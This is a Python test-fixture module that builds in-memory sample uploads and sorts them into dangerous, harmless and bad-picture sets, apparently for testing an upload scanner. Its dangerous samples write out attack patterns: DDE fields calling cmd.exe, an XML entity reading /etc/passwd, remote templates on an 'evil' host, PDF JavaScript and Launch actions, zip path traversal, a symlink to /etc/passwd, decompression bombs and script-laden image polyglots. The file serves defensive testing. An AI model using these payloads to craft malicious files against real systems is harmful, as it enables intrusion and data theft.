"""Files as people and attackers upload them, made in memory."""

import io
import zipfile
import zlib

from PIL import Image


TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
RELATION = '<Relationships><Relationship Id="r1" Type="http://x/relationships/{}" Target="{}" TargetMode="External"/></Relationships>'


def archive(files, **options):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, **options) as made:
        for name, data in files.items():
            made.writestr(name, data)
    return file.getvalue()


def office(extension="docx", types="", **files):
    part = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}[extension]
    return archive({"[Content_Types].xml": TYPES.format(types), part: "<w:document/>", **files})


def pdf(*objects):
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, text) for number, text in enumerate(objects, start=1))
    return b"%PDF-1.7\n" + body + b"trailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"


def packed(text):
    data = zlib.compress(text)
    return b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(data), data)


def picture(kind="PNG", size=(64, 36), mode="RGB", **options):
    file = io.BytesIO()
    Image.new(mode, size, "#12498f" if mode == "RGB" else 1).save(file, kind, **options)
    return file.getvalue()


def located():
    """A photograph with the position where it was taken."""
    exif = Image.Exif()
    exif[0x010F] = "Camera-4711"
    exif.get_ifd(0x8825)[2] = (30.0, 15.0, 7.0)
    return picture("JPEG", exif=exif)


def compound(*streams):
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + b"".join(name.encode("utf-16-le") for name in streams)


def symbolic_link():
    info = zipfile.ZipInfo("a.txt")
    info.external_attr = 0o120777 << 16
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made:
        made.writestr(info, "/etc/passwd")
    return file.getvalue()


def locked(data):
    """The same archive with the flag of encryption on each member."""
    marked = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = marked.find(signature)
        while at >= 0:
            marked[at + offset] |= 1
            at = marked.find(signature, at + 1)
    return bytes(marked)


DANGEROUS = {
    "macro.docx": office(**{"word/vbaProject.bin": b"x"}),
    "macro.xlsx": office("xlsx", **{"xl/macrosheets/sheet1.xml": "<x/>"}),
    "macro-type.docx": office(types='<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
    "activex.docx": office(**{"word/activeX/activeX1.xml": "<x/>"}),
    "object.docx": office(**{"word/embeddings/oleObject1.bin": b"x"}),
    "template.docx": office(
        **{"word/_rels/settings.xml.rels": RELATION.format("attachedTemplate", "http://evil/x.dotm")}
    ),
    "picture-outside.docx": office(**{"word/_rels/document.xml.rels": RELATION.format("image", "http://evil/x.png")}),
    "dde.docx": office(**{"word/d.xml": '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k"</w:instrText>'}),
    "dde-simple.docx": office(**{"word/d.xml": '<w:fldSimple w:instr=" DDE cmd /c calc"/>'}),
    "dde.xlsx": office("xlsx", **{"xl/externalLinks/externalLink1.xml": '<ddeLink ddeService="cmd"/>'}),
    "entity.docx": office(**{"word/e.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}),
    "not-word.docx": archive({"a.txt": "x"}),
    "macro.doc": compound("_VBA_PROJECT"),
    "object.ppt": compound("\x01Ole10Native"),
    "sheet.xls": compound() + b"\x85\x00\x0e\x00\x10\x20\x00\x00\x00\x01\x06\x00Macro1",
    "page.doc": b"<html><script>alert(1)</script></html>",
    "script.pdf": pdf(b"<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"),
    "escaped.pdf": pdf(b"<</Type/Catalog/OpenAction<</S/J#61vaScript>>>>"),
    "launch.pdf": pdf(b"<</S/Launch/F(cmd.exe)>>"),
    "attached.pdf": pdf(b"<</Names<</EmbeddedFiles 2 0 R>>>>"),
    "packed.pdf": pdf(packed(b"1 0 <</S/JavaScript/JS(app.alert(1))>>")),
    "bomb.pdf": pdf(packed(bytes(64 * 1024 * 1024))),
    "form.pdf": pdf(b"<</AcroForm<</XFA[]>>>>"),
    "locked.pdf": pdf(b"<</Encrypt 3 0 R>>"),
    "not.pdf": b"GIF89a<script>",
    "program.zip": archive({"a.exe": "MZ"}),
    "page.zip": archive({"a.html": "<script>"}),
    "nested.zip": archive({"a.zip": archive({"b.txt": "x"})}),
    "climbs.zip": archive({"../../etc/a.txt": "x"}),
    "absolute.zip": archive({"/etc/a.txt": "x"}),
    "windows.zip": archive({"C:\\a.txt": "x"}),
    "link.zip": symbolic_link(),
    "locked.zip": locked(archive({"a.txt": "x"})),
    "bomb.zip": archive({"a.txt": bytes(64 * 1024 * 1024)}),
    "many.zip": archive({f"{number}.txt": "" for number in range(3000)}),
    "macro.zip": archive({"a.docx": office(**{"word/vbaProject.bin": b"x"})}),
    "torn.zip": archive({"a.txt": "x" * 1000})[:-30],
    "program.txt": b"MZ\0\0\0",
    "page.txt": b"  <!DOCTYPE html><script>",
    "script.csv": b"<script>alert(1)</script>",
    "film.mp4": b"<html>",
    "song.mp3": b"<html>",
    "page.html": b"<script>",
    "drawing.svg": b"<svg/>",
    "program.exe": b"MZ",
    "noname": b"x",
    "script.ofd": archive({"OFD.xml": "<x/>", "a.js": "x"}),
    "macro.wps": compound("_VBA_PROJECT"),
}
HARMLESS = {
    "a.docx": office(**{"word/_rels/document.xml.rels": RELATION.format("hyperlink", "https://www.gov.cn/")}),
    "a.xlsx": office("xlsx", **{"xl/embeddings/Microsoft_Excel_Sheet1.xlsx": "x"}),
    "a.pptx": office("pptx"),
    "a.doc": compound("WordDocument"),
    "a.xls": compound("Workbook"),
    "a.wps": compound("WordDocument"),
    "a.pdf": pdf(b"<</Type/Catalog/OpenAction[1 0 R/Fit]>>", b"<<>>stream\n/JS/JavaScript\nendstream"),
    "a.ofd": archive({"OFD.xml": "<x/>"}),
    "a.zip": archive({"目录/a.docx": office(), "b.txt": "文", "c.png": "x"}),
    "a.txt": "说明\n".encode("gb18030"),
    "a.csv": "甲,乙\n".encode(),
    "a.mp4": b"\0\0\0\x18ftypmp42",
    "a.mp3": b"\xff\xfb\x90",
}
BAD_PICTURES = {
    "a.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "a.png": picture("JPEG"),
    "b.png": b"<script>alert(1)</script>",
    "c.gif": b"GIF89a/*<script>*/=alert(1)//",
    "huge.png": picture("PNG", (8000, 8000), "1"),
    "a.bmp": picture("BMP"),
    "a.html": picture(),
    "a.png.php": picture(),
    "cut.jpg": picture("JPEG", (800, 600))[:900],
}
